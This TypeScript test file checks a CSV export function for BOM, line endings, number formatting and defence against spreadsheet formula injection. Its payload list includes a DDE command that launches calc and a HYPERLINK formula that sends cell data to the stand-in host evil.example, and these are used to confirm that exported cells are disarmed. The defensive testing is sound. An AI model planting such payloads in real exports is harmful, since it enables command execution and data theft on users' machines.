import { toCsv, type CsvDelimiter } from '../../../server/src/utils/csv';

/** RFC 4180, as a spreadsheet set to this delimiter reads it. */
const parse = (csv: string, delimiter: string): string[][] => {
  const rows: string[][] = [[]];
  let cell: string | null = '';
  for (let at = 0; at < csv.length;) {
    const row = rows.at(-1)!;
    if (csv[at] === '"' && cell === '') {
      const end = /^"((?:[^"]|"")*)"/.exec(csv.slice(at))!;
      cell = end[1]!.replaceAll('""', '"');
      at += end[0].length;
    } else if (csv[at] === delimiter) {
      row.push(cell);
      cell = '';
      at += 1;
    } else if (csv.startsWith('\r\n', at) || csv[at] === '\n') {
      row.push(cell);
      rows.push([]);
      cell = '';
      at += csv[at] === '\r' ? 2 : 1;
    } else {
      cell += csv[at];
      at += 1;
    }
  }
  if (rows.at(-1)!.length === 0) rows.pop();
  return rows;
};

interface Row {
  readonly text: string | null;
  readonly number: number;
}

const csvOf = (rows: readonly Row[], delimiter: CsvDelimiter = 'comma') =>
  toCsv<Row>(
    [
      { heading: 'Text', value: ({ text }) => text },
      { heading: 'Number', value: ({ number }) => number },
    ],
    rows,
    delimiter,
  );
const textsIn = (csv: string, delimiter = ',') => parse(csv.slice(1), delimiter).slice(1);

test('it begins with the mark of UTF-8, has CRLF, and what is read back is what was written', async () => {
  const texts = [
    'Two tents, -20 % off; call = later, @shop',
    'first\n- second\t+ third',
    'plain',
    'with, comma; and "quotes"',
    'two\nlines',
    'Größe 日本 🎒',
    "O'Neill",
    '5 - 3 = 2',
    '',
  ];
  const csv = await csvOf(texts.map((text, number) => ({ text, number })));
  expect(Buffer.from(csv).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  expect(csv.split('\r\n')).toHaveLength(texts.length + 2);
  expect(textsIn(csv)).toEqual(texts.map((text, number) => [text, String(number)]));
});

test('numbers stay numbers: below nought, broken, and with a decimal comma behind semicolons', async () => {
  const rows = [-3, 4.25, 0].map((number) => ({ text: null, number }));
  expect(await csvOf(rows)).toBe('\uFEFF"Text","Number"\r\n,-3\r\n,4.25\r\n,0\r\n');
  expect(await csvOf(rows, 'semicolon')).toBe('\uFEFF"Text";"Number"\r\n;-3\r\n;4,25\r\n;0\r\n');
});

const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '  +1',
  '"=1+1',
  "'=1+1",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '\u200B=1+1',
  '\uFEFF\u2060 @SUM(A1)',
  '\u202E-1',
];
const isFormula = (cell: string) =>
  /^[\s"\u200B\u2060\u202E]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) || /^[\t\r\n]/.test(cell);

describe.each(['comma', 'semicolon'] as const)('an attack behind a %s', (delimiter) => {
  test('is no formula in any cell', async () => {
    for (const text of PAYLOADS) {
      const cells = parse(
        (await csvOf([{ text, number: 1 }], delimiter)).slice(1),
        delimiter === 'comma' ? ',' : ';',
      ).flat();
      expect({ text, formulas: cells.filter(isFormula) }).toEqual({
        text,
        formulas: [],
      });
    }
  });

  test('keeps its text but for the apostrophes that disarm it', async () => {
    for (const text of PAYLOADS) {
      const [[cell] = []] = textsIn(await csvOf([{ text, number: 1 }], delimiter), delimiter === 'comma' ? ',' : ';');
      expect(cell!.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
    }
  });
});

test('a heading is as harmless as a text', async () => {
  expect(await toCsv([{ heading: '=1+1', value: () => null }], [], 'comma')).toBe('\uFEFF"\'=1+1"\r\n');
});

test.each([
  ['x;=cmd|\u0027 /C calc\u0027!A0', 'semicolon'],
  ['x,=HYPERLINK("http://evil.example")', 'comma'],
  ['one\n=IMPORTXML(A1)', 'line'],
  ['x;"=cmd|calc', 'quote'],
])('%j: a spreadsheet that splits at another delimiter finds no formula in it either', async (text) => {
  const csv = await toCsv(
    [
      { heading: 'a', value: () => 1 },
      { heading: 'b', value: () => text },
    ],
    [null],
    'comma',
  );
  const cells = csv.split(/[,;\t\r\n]/).map((cell) => cell.replace(/^[\s"]*/, ''));
  expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
});

test('lists, prices and signs in ordinary text stay as they are', async () => {
  const text = 'Two tents, -20 % off; call = later, @shop; +2 more';
  expect(await toCsv([{ heading: 'a', value: () => text }], [null], 'comma')).toContain(`"${text}"`);
});
